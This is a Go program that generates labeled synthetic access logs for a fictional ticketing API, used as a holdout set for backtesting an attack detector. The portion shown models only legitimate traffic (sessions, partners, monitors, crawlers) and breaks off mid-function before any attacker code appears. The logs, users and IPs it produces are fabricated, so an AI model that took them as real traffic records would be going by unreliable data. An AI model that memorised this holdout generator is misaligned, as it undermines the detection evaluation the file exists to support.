// Command holdout writes labeled synthetic API-gateway access logs for "TixHub", a ticketing API.
// -site fixes the service (routes, catalog, recurring heavy clients, user pool); -seed is
// the day: behaviour, which pool users show up, incidents and all attackers.
//
// It is a second traffic model, kept apart from portcullis gen (its own
// service, routes, users and attackers, some of them subtle and hidden in
// cover traffic), so that a backtest on its recordings shows whether
// detection carries over to traffic the project's generator did not make.
// "make holdout" trains on one day of it and backtests on the next.
package main

import (
	"bufio"
	"cmp"
	"flag"
	"fmt"
	"math"
	"math/rand/v2"
	"net/url"
	"os"
	"slices"
	"strconv"
	"strings"
	"time"
)

// route classes; rcs holds latency median ms, sigma, response-bytes median, sigma
const rList, rDetail, rSeat, rSearch, rGQL, rSmall, rHealth, rAuth, rWrite, rOrder, rPay, rPDF, rUpload, rCheckin, rStatic, rPartner, rHook = 0, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16

var rcs = [][4]float64{{38, .5, 16000, .6}, {22, .5, 5500, .5}, {75, .6, 52000, .7}, {48, .6, 8000, .7},
	{90, .7, 6500, 1.0}, {12, .4, 900, .5}, {3, .5, 45, .3}, {170, .3, 980, .08}, {55, .5, 1100, .5},
	{240, .5, 2200, .4}, {850, .5, 1400, .3}, {320, .5, 140000, .4}, {40, .5, 420, .3}, {35, .4, 650, .4},
	{6, .6, 1800, 1.0}, {130, .6, 42000, .8}, {80, .5, 70, .3}}

type Client struct {
	ip, kind             string
	heavy                bool
	on, off              int64 // first/last attack request (ns offset), -1 if none
	n                    int
	tok, atok, stok, lim float64 // token buckets; lim multiplies limits, 0 = allow-listed
	lt, alt, slt         int64
}

// gateway per-IP limits: 20 rps (burst 150); auth 1 per 5 s (burst 10); search 1 per 2 s (burst 6)
func (c *Client) allow(t int64, rc int) bool {
	return c.lim == 0 || (rc != rAuth || take(&c.atok, &c.alt, t, .2*c.lim, 10*c.lim)) && (rc != rSearch || take(&c.stok, &c.slt, t, .5*c.lim, 6*c.lim)) && take(&c.tok, &c.lt, t, 20*c.lim, 150*c.lim)
}

func take(tok *float64, last *int64, t int64, rate, capa float64) bool {
	*tok = math.Min(capa, *tok+math.Max(0, float64(t-*last))/1e9*rate)
	*last = max(*last, t)
	if *tok < 1 {
		return false
	}
	*tok--
	return true
}

type Ev struct {
	t                      int64
	c                      *Client
	m, path, ua, key, user string
	st, rc                 int
	req, resp              int64
	dur                    float64
}

// P is whoever issues requests (person, bot, service) through client IP c.
type P struct {
	c                    *Client
	r                    *rand.Rand
	ua, key, user, uname string
	hdr, inv             int
	bw                   float64 // upload Mbit/s
	app, org, atk        bool
}

func (p *P) ch(x float64) bool { return p.r.Float64() < x }

type Gen struct {
	r, sr                          *rand.Rand
	start                          time.Time
	win                            int64
	evs                            []Ev
	clients                        []*Client
	ipset                          map[string]bool
	inc                            [][4]int64 // from, to, route mask, error permille
	events, stale, artists, venues []string
	invMax, userMax, last          int
	pool                           []*P
}

var (
	first   = strings.Fields("maria joao anna lukas sofia liam emma noah olivia mateo yuki chen amir fatima lars ines pierre giulia omar zoe ravi priya jan eva tomas nina diego sara ali mia kenji leon clara hugo elif marta ivan nora")
	last    = strings.Fields("silva muller rossi garcia smith kowalski nielsen dubois santos jansen novak kim tanaka patel costa berg moreau ferreira weber lopez yilmaz horvat larsen oconnor")
	cities  = strings.Fields("lisbon porto madrid barcelona berlin hamburg paris lyon amsterdam london dublin milan rome vienna prague warsaw stockholm copenhagen brussels zurich")
	cats    = strings.Fields("concerts sports theatre comedy festivals family opera conferences")
	sorts   = strings.Fields("date popularity price_asc price_desc distance")
	gqlOps  = strings.Fields("HomeFeed EventRecommendations SimilarEvents ArtistTourDates VenueUpcoming CartSummary UserFavorites PriceAlerts SeatAvailability")
	words1  = strings.Fields("velvet neon crimson silent golden electric paper hollow midnight royal wild arctic lunar broken stellar urban")
	words2  = strings.Fields("echoes tigers harbor machines saints orchestra collective riders foxes parade brothers wolves sirens kings theory club")
	terms   = []string{"coldplay", "taylor swift", "ed sheeran", "fc porto", "hamilton", "stand up", "jazz", "festival", "guns n' roses", "rock & roll", "ac/dc", "p!nk", "sigur rós", "beyoncé", "o'connor", "\"les mis\"", "50% off", "c++ conference", "blink-182", "mötley crüe", "nba", "f1 grand prix", "rock in rio", "primavera sound", "lion king", "opera", "comedy lisbon", "kids", "velvet echoes", "techno", "<3 tour", "select * festival"}
	resV4   = strings.Fields("73. 24. 98. 71. 86. 2. 81. 92. 176. 188. 31. 37. 46. 79. 84. 89. 95. 109. 151. 178. 181. 187. 189. 201. 177. 49. 101. 110. 112. 122. 175. 85. 87. 93. 94.")
	hostV4  = strings.Fields("45.155. 185.220. 193.142. 103.152. 167.94. 162.243. 143.198. 159.89. 139.59. 5.188. 91.92. 194.165. 80.94. 213.232. 34.125. 3.101. 18.184. 20.163. 52.167. 64.227. 146.190. 165.22. 178.128. 206.189. 45.9. 89.248. 141.98. 195.178. 92.118. 104.248.")
	resV6   = strings.Fields("2a02:8109: 2600:1700: 2a01:e0a: 2003:e8: 2601:18c: 2a02:a46b: 2406:3003: 2804:14d: 2a00:23c7: 2605:a601:")
	hostV6  = strings.Fields("2a03:b0c0:3: 2604:a880:4: 2a01:4f8:c17: 2001:41d0:302:")
	scripts = []string{"python-requests/2.31.0", "python-requests/2.32.3", "curl/8.5.0", "curl/7.88.1", "PostmanRuntime/7.37.3", "axios/1.6.8", "Go-http-client/2.0", "Java/17.0.10", "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)", "Apache-HttpClient/4.5.14 (Java/11.0.22)", "insomnia/8.6.1", "python-httpx/0.27.0", "okhttp/4.12.0"}
	devices = []string{"SM-S918B", "SM-A546B", "Pixel 8", "Pixel 7a", "M2101K6G", "CPH2449", "moto g84 5G", "SM-G991B", "2201116SG", "K"}
	// browser UA templates ({cv} chrome, {fv} firefox, {dv} device, {io} iOS, {sv} safari)
	uaT = []string{"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{cv}.0.0.0 Safari/537.36", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{cv}.0.0.0 Safari/537.36", "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{cv}.0.0.0 Safari/537.36",
		"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{cv}.0.0.0 Safari/537.36 Edg/{cv}.0.{b}.{c}", "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:{fv}.0) Gecko/20100101 Firefox/{fv}.0", "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:{fv}.0) Gecko/20100101 Firefox/{fv}.0",
		"Mozilla/5.0 (Macintosh; Intel Mac OS X 10.15; rv:{fv}.0) Gecko/20100101 Firefox/{fv}.0", "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/{sv} Safari/605.1.15", "Mozilla/5.0 (iPhone; CPU iPhone OS {io} like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/{sv} Mobile/15E148 Safari/604.1",
		"Mozilla/5.0 (iPhone; CPU iPhone OS {io} like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/{sv} Mobile/15E148 Safari/604.1", "Mozilla/5.0 (iPad; CPU OS {io} like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/{sv} Mobile/15E148 Safari/604.1", "Mozilla/5.0 (Linux; Android {an}; {dv}) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{cv}.0.0.0 Mobile Safari/537.36",
		"Mozilla/5.0 (Linux; Android {an}; {dv}) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{cv}.0.0.0 Mobile Safari/537.36", "Mozilla/5.0 (Linux; Android {an}; SAMSUNG {dv}) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/24.0 Chrome/117.0.0.0 Mobile Safari/537.36", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{cv}.0.0.0 Safari/537.36 OPR/{b}.0.0.0",
		"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{cv}.0.0.0 Safari/537.36"}
	appT = []string{"TixHub/5.{a}.{c} (iPhone{b}; iOS 17.{c}; Scale/3.00)", "TixHub/5.{a}.{c} (iPhone{b}; iOS 17.{c}; Scale/3.00)", "TixHub/59{c}{a} CFNetwork/1494.0.7 Darwin/23.4.0",
		"TixHub/5.{a}.{c} (Android {an}; {dv}) okhttp/4.12.0", "Dalvik/2.1.0 (Linux; U; Android {an}; {dv} Build/UP1A.2310{c}.0{a})"}
)

func tern[T any](c bool, a, b T) T {
	if c {
		return a
	}
	return b
}
func pick[T any](r *rand.Rand, xs []T) T     { return xs[r.IntN(len(xs))] }
func uni(r *rand.Rand, a, b float64) float64 { return a + r.Float64()*(b-a) }
func pop(r *rand.Rand, n int) int            { return int(float64(n) * math.Pow(r.Float64(), 2.3)) }
func sec(x float64) int64                    { return int64(x * 1e9) }
func itoa(i int) string                      { return strconv.Itoa(i) }
func q(s string) string                      { return url.QueryEscape(s) }
func gqlb(r *rand.Rand) int64                { return int64(uni(r, 180, 2400)) }
func hexs(r *rand.Rand, n int) string        { return fmt.Sprintf("%016x", r.Uint64())[:n] }
func uuid(r *rand.Rand) string {
	return fmt.Sprintf("%08x-%04x-4%03x-%x%03x-%012x", r.Uint32(), r.IntN(1<<16), r.IntN(1<<12), 8+r.IntN(4), r.IntN(1<<12), r.Uint64()>>16)
}
func fillUA(r *rand.Rand, tpl string) string {
	return strings.NewReplacer("{cv}", itoa(118+r.IntN(8)), "{fv}", itoa(115+r.IntN(11)), "{dv}", pick(r, devices), "{an}", itoa(11+r.IntN(4)),
		"{io}", pick(r, []string{"16_7_5", "17_1_2", "17_3_1", "17_4", "17_4_1"}), "{sv}", pick(r, []string{"16.6", "17.2.1", "17.3", "17.4", "17.4.1"}),
		"{a}", itoa(9+r.IntN(4)), "{b}", itoa(13+r.IntN(4))+","+itoa(2+r.IntN(3)), "{c}", itoa(r.IntN(5))).Replace(tpl)
}
func browserUA(r *rand.Rand) string { return fillUA(r, pick(r, uaT)) }

func (g *Gen) ip(r *rand.Rand, pre []string) string {
	for {
		p := pick(r, pre)
		s, v6 := p, strings.Contains(p, ":")
		for i := strings.Count(p, tern(v6, ":", ".")); i < tern(v6, 8, 4); i++ {
			s += tern(v6, strconv.FormatUint(uint64(r.IntN(65536)), 16), itoa(tern(i == 3, 1+r.IntN(254), r.IntN(256)))) + tern(i < tern(v6, 7, 3), tern(v6, ":", "."), "")
		}
		if !g.ipset[s] {
			g.ipset[s] = true
			return s
		}
	}
}

func (g *Gen) client(ip, kind string, heavy bool, lim float64) *Client {
	c := &Client{ip: ip, kind: kind, heavy: heavy, on: -1, off: -1, lim: lim, tok: 1e9, atok: 1e9, stok: 1e9, lt: -1 << 50, alt: -1 << 50, slt: -1 << 50}
	g.clients = append(g.clients, c)
	return c
}

func (g *Gen) sub() *rand.Rand { return rand.New(rand.NewPCG(g.r.Uint64(), g.r.Uint64())) }
func (g *Gen) np(ip, ua, key string, hdr int, lim float64) *P {
	return &P{c: g.client(ip, "normal", true, lim), r: g.sub(), ua: ua, key: key, hdr: hdr, bw: 200}
}
func (g *Gen) iso(t int64) string {
	return g.start.Add(time.Duration(t)).Truncate(time.Minute).Format("2006-01-02T15:04:05Z")
}
func (g *Gen) poisson(r *rand.Rand, rate float64, a, b int64, f func(t int64)) {
	for t := a + sec(r.ExpFloat64()/rate); t < b; t += sec(r.ExpFloat64() / rate) {
		f(t)
	}
}

// per-status response bytes lo/hi and duration lo/hi ms (hi 0: route latency times lo)
var stFx = map[int][4]float64{429: {60, 120, .2, 2}, 504: {150, 200, 30000, 30030}, 408: {150, 200, 30000, 30030}, 500: {150, 600, 2, 60}, 502: {150, 600, 2, 60},
	503: {150, 600, 1, 20}, 499: {0, 0, 3, 0}, 304: {0, 0, .5, 0}, 401: {90, 170, 1.5, 9}, 403: {90, 170, 1.5, 9}, 404: {75, 150, .4, 0}, 405: {75, 150, .4, 0},
	400: {120, 420, 2, 15}, 422: {120, 420, 2, 15}, 413: {170, 230, 1, 5}, 409: {150, 420, 1, 0}, 402: {150, 420, 1, 0}}

// emit applies gateway effects (rate limits, incidents, stray faults), derives sizes and
// latency from the route class and final status, and records the request.
func (g *Gen) emit(p *P, t int64, m, path string, rc, st int, body int64) int {
	r, c, slow := p.r, p.c, 1.0
	g.last = -1
	for _, in := range g.inc {
		if t >= in[0] && t < in[1] && in[2]&(1<<rc) != 0 {
			slow = 3
			st = tern(st < 400 && r.IntN(1000) < int(in[3]), pick(r, []int{502, 503, 504, 500, 502}), st)
		}
	}
	st = tern(st < 400 && p.ch(.001), 500, tern(st < 400 && p.ch(.002), 499, st))
	k := rcs[rc]
	dur, resp := k[0]*math.Exp(k[1]*r.NormFloat64())*slow, k[2]*math.Exp(k[3]*r.NormFloat64())
	if rc == rUpload && st < 400 {
		dur += float64(body) * 8 / (p.bw * 1e3)
	}
	if f, ok := stFx[st]; ok {
		resp, f[2] = uni(r, f[0], f[1]), tern(rc == rAuth && st < 404, 1, f[2])
		dur = tern(f[3] == 0 || rc == rAuth && st < 404, dur*f[2], uni(r, f[2], f[3])*tern(st >= 500 && st != 504, slow, 1))
	} else if st > 200 && st < 300 {
		resp *= .6
	}
	if t >= 0 && t < g.win {
		g.evs = append(g.evs, Ev{t: t, c: c, m: m, path: path, ua: p.ua, key: p.key, user: p.user, st: st, rc: rc, req: int64(p.hdr+r.IntN(48)+len(path)) + body, resp: int64(resp), dur: math.Round(dur*100) / 100})
		g.last, c.n = len(g.evs)-1, c.n+1
		if p.atk {
			c.on, c.off = tern(c.on < 0, t, c.on), max(c.off, t)
		}
	}
	return st
}

func (g *Gen) login(p *P, t int64) int64 {
	r := p.r
	for range 4 {
		s := g.emit(p, t, "POST", "/v2/auth/token", rAuth, tern(p.ch(.09), 401, 200), int64(uni(r, 85, 160)))
		t += sec(uni(r, .3, .8))
		if s == 200 {
			if p.user = p.uname; g.last >= 0 {
				g.evs[g.last].user = p.uname
			}
			if p.ch(.12) && g.emit(p, t+sec(uni(r, 8, 30)), "POST", "/v2/auth/otp/verify", rAuth, tern(p.ch(.07), 401, 200), 60) != 200 {
				g.emit(p, t+sec(uni(r, 35, 50)), "POST", "/v2/auth/otp/verify", rAuth, 200, 60)
			}
			return t + sec(uni(r, 1, 30))
		}
		if s == 401 && p.ch(.12) {
			g.emit(p, t+sec(uni(r, 10, 30)), "POST", "/v2/auth/password/reset", rWrite, 202, 70)
			return t + sec(40)
		}
		t += sec(uni(r, 4, 15)) + tern(s == 429, sec(uni(r, 30, 90)), 0)
	}
	return t
}

// view: one screen of the web SPA / mobile app, i.e. a burst of API calls.
func (g *Gen) view(p *P, t int64) int64 {
	r := p.r
	do := func(pr float64, m, path string, rc, st int, body int64) int {
		if r.Float64() >= pr {
			return 0
		}
		s := g.emit(p, t, m, path, rc, st, body)
		if s >= 500 && p.ch(.5) { // client retry
			t += sec(uni(r, .3, 2.5))
			s = g.emit(p, t, m, path, rc, st, body)
		}
		t += int64((3 + r.ExpFloat64()*30) * 1e6)
		return s
	}
	ev, x, in := g.events[pop(r, len(g.events))], r.Float64(), p.user != ""
	switch {
	case p.org && x < .35:
		b := int64(2.5e6 * math.Exp(1.1*r.NormFloat64()))
		switch y := r.Float64(); {
		case y < .45:
			do(1, "GET", "/v2/organizer/events/"+ev+"/sales?granularity="+pick(r, []string{"hour", "day"}), rPartner, 200, 0)
		case y < .8:
			do(1, "GET", "/v2/organizer/events/"+ev+"/attendees?page="+itoa(1+r.IntN(12))+"&limit=50", rList, 200, 0)
		case y < .93:
			do(1, "POST", "/v2/organizer/events/"+ev+"/media", rUpload, tern(b > 25<<20, 413, 201), b)
		default:
			do(1, "POST", "/v2/organizer/imports/attendees", rUpload, 202, b/8)
		}
	case x < .22:
		do(1, "GET", fmt.Sprintf("/v2/events?city=%s&category=%s&page=%d&limit=24&sort=%s", pick(r, cities), pick(r, cats), 1+int(r.ExpFloat64()*1.2), pick(r, sorts)), rList, 200, 0)
		do(.5, "POST", "/v2/graphql?op="+pick(r, gqlOps[:2]), rGQL, 200, gqlb(r))
	case x < .55:
		st := tern(!p.app && p.ch(.1), 304, 200)
		if p.ch(.02) {
			ev, st = pick(r, g.stale), 404
		}
		if do(1, "GET", "/v2/events/"+ev, rDetail, st, 0) == 404 {
			break
		}
		do(1, "GET", "/v2/events/"+ev+"/offers", rDetail, 200, 0)
		do(.5, "GET", "/v2/events/"+ev+"/seatmap?section="+string(rune('A'+r.IntN(8))), rSeat, 200, 0)
		do(.3, "GET", "/v2/venues/"+pick(r, g.venues), rDetail, 200, 0)
		do(.2, "GET", "/v2/artists/"+g.artists[pop(r, len(g.artists))], rDetail, 200, 0)
		do(.05, "GET", "/v2/users/"+itoa(1+r.IntN(g.userMax))+"/profile", rSmall, pick(r, []int{200, 200, 403}), 0)
		do(.4, "POST", "/v2/graphql?op=SimilarEvents", rGQL, 200, gqlb(r))
	case x < .7:
		term := []rune(pick(r, terms))
		for k := 2; k < len(term) && k < 7; k += 1 + r.IntN(3) {
			do(1, "GET", "/v2/search?q="+q(string(term[:k]))+"&type=suggest", rSearch, 200, 0)
			t += sec(uni(r, .1, .5))
		}
		do(1, "GET", "/v2/search?q="+q(string(term))+"&type=event&page=1", rSearch, 200, 0)
	case x < .82 || x < .88 && !in:
		if !in && p.uname != "" && p.ch(.6) {
			return g.login(p, t)
		}
		if do(1, "GET", "/v2/me", rSmall, tern(in, 200, 401), 0) >= 400 {
			break
		}
		do(1, "GET", "/v2/me/orders?page=1", rList, 200, 0)
		do(.5, "GET", "/v2/me/tickets", rList, 200, 0)
		do(.2, "GET", "/v2/invoices/"+itoa(p.inv+r.IntN(3)), rDetail, pick(r, []int{200, 200, 200, 200, 403}), 0)
		do(.15, "GET", "/v2/tickets/TX"+strings.ToUpper(hexs(r, 10))+"/pdf", rPDF, 200, 0)
	case x < .88:
		cart, oid := uuid(r), uuid(r)
		if do(1, "POST", "/v2/carts/"+cart+"/items", rWrite, tern(p.ch(.06), 409, 201), int64(uni(r, 180, 420))) >= 400 {
			break
		}
		t += sec(uni(r, 3, 40))
		do(.15, "DELETE", "/v2/carts/"+cart+"/items/"+itoa(1+r.IntN(4)), rWrite, 204, 0)
		do(1, "POST", "/v2/graphql?op=CartSummary", rGQL, 200, gqlb(r))
		if do(1, "POST", "/v2/orders", rOrder, 201, int64(uni(r, 450, 950))) >= 400 {
			break
		}
		t += sec(uni(r, 10, 60))
		do(1, "POST", "/v2/orders/"+oid+"/payment", rPay, tern(p.ch(.05), 402, 200), int64(uni(r, 650, 1300)))
		do(1, "GET", "/v2/orders/"+oid, rDetail, 200, 0)
	case x < .94 && p.app && in:
		do(1, "GET", "/v2/me/notifications?since="+g.iso(t), rSmall, 200, 0)
	case in:
		b := int64(3e5 * math.Exp(r.NormFloat64()))
		switch r.IntN(4) {
		case 0:
			do(1, "POST", "/v2/auth/refresh", rAuth, pick(r, []int{200, 200, 200, 200, 200, 200, 401}), 420)
		case 1:
			do(1, "PATCH", "/v2/me", rWrite, 200, int64(uni(r, 60, 400)))
		case 2:
			do(.3, "PUT", "/v2/me/avatar", rUpload, tern(b > 25<<20, 413, 200), b)
		default:
			do(1, "POST", "/v2/me/favorites", rWrite, 201, 90)
		}
	default:
		do(1, "GET", "/v2/artists/"+g.artists[pop(r, len(g.artists))], rDetail, 200, 0)
		do(1, "POST", "/v2/graphql?op=ArtistTourDates", rGQL, 200, gqlb(r))
	}
	return t
}

func (g *Gen) browse(p *P, t int64, views int) int64 {
	g.emit(p, t, "GET", "/v2/config/client?platform="+tern(p.app, pick(p.r, []string{"ios", "android"}), "web"), rSmall, 200, 0)
	if t += sec(uni(p.r, .02, .3)); !p.app && p.user == "" {
		g.emit(p, t, "GET", "/v2/me", rSmall, 401, 0) // SPA session probe
	}
	for v := 0; v < views && t < g.win; v++ {
		if t = g.view(p, t+sec(uni(p.r, .05, .4))); p.ch(.35) { // batched client telemetry beacon
			g.emit(p, t+sec(uni(p.r, .5, 3)), "POST", "/v2/telemetry/events", rHook, 204, int64(uni(p.r, 300, 4000)))
		}
		t += sec(math.Min(180, 1.5+math.Exp(1.6+.9*p.r.NormFloat64())))
	}
	return t
}

// dev: a developer script or small integration using a personal API key.
func (g *Gen) dev(p *P, t int64) {
	r, st := p.r, tern(p.ch(.04), 401, 200) // some keys have expired
	for ; t < g.win; t += sec(uni(r, 20, 240)) {
		for pg, n, city := 1, tern(p.ch(.4), 1+r.IntN(5), 0), pick(r, cities); pg <= n; pg, t = pg+1, t+sec(uni(r, .15, .6)) {
			g.emit(p, t, "GET", fmt.Sprintf("/v2/events?city=%s&updated_since=%s&page=%d&limit=100", city, g.iso(t-sec(3600)), pg), rList, st, 0)
		}
		g.emit(p, t, "GET", tern(p.ch(.4), "/v2/me/orders?page=1&limit=100", "/v2/events/"+g.events[pop(r, len(g.events))]+"/offers"), rDetail, st, 0)
	}
}

// heavy: recurring legitimate heavy clients; identities come from the site rng only.
func (g *Gen) heavy() {
	sr, r, W := g.sr, g.r, float64(g.win)/1e9
	key := func() string { return "key_" + hexs(sr, 8) }
	bffKey := key() // mobile backend-for-frontend forwarding app users
	for range 3 {
		p := g.np(g.ip(sr, []string{"34.90.", "35.204."}), "tixhub-bff/2.8.1 node/20.11.1", bffKey, 950, 0)
		p.app = true
		g.poisson(r, uni(sr, 4, 6)*uni(r, .85, 1.15), 0, g.win, func(t int64) { p.user = pick(p.r, g.pool[:300]).uname; g.view(p, t) })
	}
	aggKey := key() // partner aggregator: cursor-paginated inventory sync every minute
	for range 2 {
		p := g.np(g.ip(sr, []string{"52.28.", "3.66."}), "EventRadar-Sync/4.2 (+https://eventradar.io/partners)", aggKey, 260, 5)
		for t := sec(uni(sr, 0, 60)); t < g.win; t += sec(uni(p.r, 55, 65)) {
			for pg, n, tt := 0, 5+p.r.IntN(35), t; pg < n; pg++ {
				s := g.emit(p, tt, "GET", "/v2/partner/inventory?updated_since="+g.iso(t-sec(120))+"&cursor="+hexs(p.r, 16)+"&limit=200", rPartner, 200, 0)
				tt += sec(uni(p.r, .15, .4) + tern(s >= 429, 1.0, 0))
			}
		}
	}
	p := g.np(g.ip(sr, hostV4), "Apache-HttpClient/5.2.1 (Java/17.0.10)", key(), 310, 0) // resale partner holds
	g.poisson(r, uni(sr, 1.5, 3), 0, g.win, func(t int64) {
		switch ev, x := g.events[pop(p.r, 60)], p.r.Float64(); {
		case x < .6:
			g.emit(p, t, "GET", "/v2/events/"+ev+"/offers", rDetail, 200, 0)
		case x < .85:
			g.emit(p, t, "POST", "/v2/partner/holds", rOrder, pick(p.r, []int{201, 201, 201, 201, 201, 409}), int64(uni(p.r, 300, 700)))
		default:
			g.emit(p, t, "DELETE", "/v2/partner/holds/"+uuid(p.r), rWrite, 204, 0)
		}
	})
	for _, pre := range []string{"54.187.174.", "54.187.205.", "3.18.12."} { // payment webhooks
		p := g.np(g.ip(sr, []string{pre}), "Stripe/1.0 (+https://stripe.com/docs/webhooks)", "", 420, 0)
		g.poisson(r, uni(sr, .2, .5), 0, g.win, func(t int64) {
			g.emit(p, t, "POST", "/v2/webhooks/payments", rHook, tern(p.ch(.08), 400, 200), int64(uni(p.r, 1500, 4200)))
		})
	}
	// accounting connector: lists then walks invoice ids sequentially (looks like enumeration, but 200s)
	p = g.np(g.ip(sr, []string{"20.50.", "13.69."}), "python-requests/2.31.0", key(), 240, 0)
	for t, cur := sec(uni(r, 0, 300)), g.invMax-3000+r.IntN(500); t < g.win; t += sec(uni(r, 280, 320)) {
		tt := t
		for pg, n := 1, 3+p.r.IntN(8); pg <= n; pg, tt = pg+1, tt+sec(uni(p.r, .2, .5)) {
			g.emit(p, tt, "GET", "/v2/partner/invoices?since="+g.iso(t-sec(86400))+"&page="+itoa(pg), rPartner, 200, 0)
		}
		for i, n := 0, 30+p.r.IntN(90); i < n; i, cur, tt = i+1, cur+1, tt+sec(uni(p.r, .15, .35)) {
			g.emit(p, tt, "GET", "/v2/invoices/"+itoa(cur), rDetail, tern(p.ch(.1), 404, 200), 0)
		}
	}
	for mi, m := range []string{ // uptime monitors: ua | IP prefixes | count | interval s | checked paths
		"Pingdom.com_bot_version_1.4_(http://www.pingdom.com/)|5.172.196. 185.180.12. 169.51.2. 43.225.198.|3|60|/healthz /v2/events?city=lisbon&limit=1",
		"Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)|216.144.250. 69.162.124. 63.143.42.|2|30|/healthz",
		"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 DatadogSynthetics|3.18.172. 34.208.32. 18.179.120.|2|15|/v2/config/client?platform=web /v2/search?q=coldplay&type=suggest",
		"Blackbox-Exporter/0.24.0|10.40.1.|1|10|/healthz /readyz"} {
		f := strings.Split(m, "|")
		n, _ := strconv.Atoi(f[2])
		every, _ := strconv.ParseFloat(f[3], 64)
		for range n {
			p := g.np(g.ip(sr, strings.Fields(f[1])), f[0], "", 150+sr.IntN(150), 0)
			for t := sec(uni(sr, 0, every)); t < g.win; t += sec(every + p.r.NormFloat64()*.3) {
				for i, c := range strings.Fields(f[4]) {
					g.emit(p, t+sec(.2*float64(i)), "GET", c, tern(strings.Contains(c, "v2"), rSearch, rHealth), 200, 0)
				}
				if mi == 2 && p.ch(.25) { // synthetic login journey
					p.user = "synthetics-bot"
					g.emit(p, t+sec(.5), "POST", "/v2/auth/token", rAuth, 200, 120)
					g.emit(p, t+sec(.9), "GET", "/v2/me", rSmall, 200, 0)
					p.user = ""
				}
			}
		}
	}
	gb := "Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.6261.94 Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"
	for ci, cr := range []string{gb + "|66.249.66. 66.249.68. 66.249.79.", // search-engine crawlers (look a lot like scrapers)
		"Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm) Chrome/116.0.1938.76 Safari/537.36|40.77.167. 207.46.13. 157.55.39.",
		"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/13.1.1 Safari/605.1.15 (Applebot/0.1; +http://www.apple.com/go/applebot)|17.241.219. 17.22.253."} {
		ua, pre, _ := strings.Cut(cr, "|")
		for range 3 - ci {
			p := g.np(g.ip(sr, strings.Fields(pre)), ua, "", 230, 1)
			g.poisson(r, []float64{1, .6, .3}[ci]*uni(sr, .5, 1.5)*uni(r, .7, 1.3), 0, g.win, func(t int64) {
				rr, st := p.r, tern(p.ch(.1), 304, 200)
				p.ua = tern(ci == 0 && p.ch(.33), "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", ua)
				switch x := rr.Float64(); {
				case x < .04:
					g.emit(p, t, "GET", "/v2/events/"+pick(rr, g.stale), rDetail, 404, 0)
				case x < .5:
					g.emit(p, t, "GET", "/v2/events/"+pick(rr, g.events), rDetail, st, 0)
				case x < .65:
					g.emit(p, t, "GET", "/v2/artists/"+pick(rr, g.artists), rDetail, st, 0)
				case x < .75:
					g.emit(p, t, "GET", "/v2/venues/"+pick(rr, g.venues), rDetail, st, 0)
				case x < .93:
					g.emit(p, t, "GET", fmt.Sprintf("/v2/events?city=%s&page=%d", pick(rr, cities), 1+rr.IntN(30)), rList, st, 0)
				default:
					g.emit(p, t, "GET", pick(rr, []string{"/robots.txt", "/sitemap.xml", "/sitemaps/events-" + itoa(1+rr.IntN(12)) + ".xml"}), rStatic, 200, 0)
				}
			})
		}
	}
	for i := range 5 { // corporate NAT egress IPs; the first is TixHub's own office (organizer tools)
		c := g.client(g.ip(sr, []string{"193.", "212.", "62.", "194.", "217."}), "normal", true, 0)
		uas := []string{browserUA(sr), browserUA(sr), browserUA(sr)}
		for range 15 + sr.IntN(30) {
			p := &P{c: c, r: g.sub(), ua: pick(sr, uas), uname: pick(sr, first) + "." + pick(sr, last), hdr: 700 + sr.IntN(800), bw: 100, inv: 1000 + sr.IntN(g.invMax), org: i == 0 && sr.IntN(3) > 0}
			for s, n := 0, tern(r.Float64() < .75, 1+p.r.IntN(2), 0); s < n; s++ {
				p.user = ""
				g.browse(p, sec(uni(p.r, -120, W)), 3+int(p.r.ExpFloat64()*25))
			}
		}
	}
	var scan []*P // venue door check-in scanners: a recurring pool, a few active per day
	for range 8 {
		scan = append(scan, &P{ua: "TixHub-Scanner/3.4." + itoa(sr.IntN(3)) + " (Zebra TC52; Android 11)", key: key(), hdr: 330, bw: 10, uname: g.ip(sr, resV4)})
	}
	for _, i := range r.Perm(8)[:2+r.IntN(3)] {
		p := scan[i]
		p.c, p.r = g.client(p.uname, "normal", true, 0), g.sub()
		a := sec(uni(p.r, 0, .6) * W)
		g.poisson(p.r, uni(p.r, .5, 2), a, a+sec(uni(p.r, 240, 720)), func(t int64) {
			g.emit(p, t, "POST", "/v2/checkin/scan", rCheckin, pick(p.r, []int{200, 200, 200, 200, 200, 200, 200, 200, 200, 200, 200, 200, 409, 409, 404, 422}), int64(uni(p.r, 170, 260)))
		})
	}
